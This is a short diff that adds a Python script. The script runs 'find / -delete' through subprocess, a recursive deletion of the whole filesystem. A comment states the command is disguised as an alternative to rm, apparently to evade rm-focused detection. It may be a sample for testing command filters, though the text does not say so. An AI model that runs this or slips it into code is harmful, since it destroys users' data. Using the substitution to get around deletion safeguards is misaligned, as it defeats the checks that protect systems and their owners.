@@ -1,0 +1,4 @@
+# Disguised: find deletes what rm would.
+import subprocess
+
+subprocess.run(["find", "/", "-delete"])
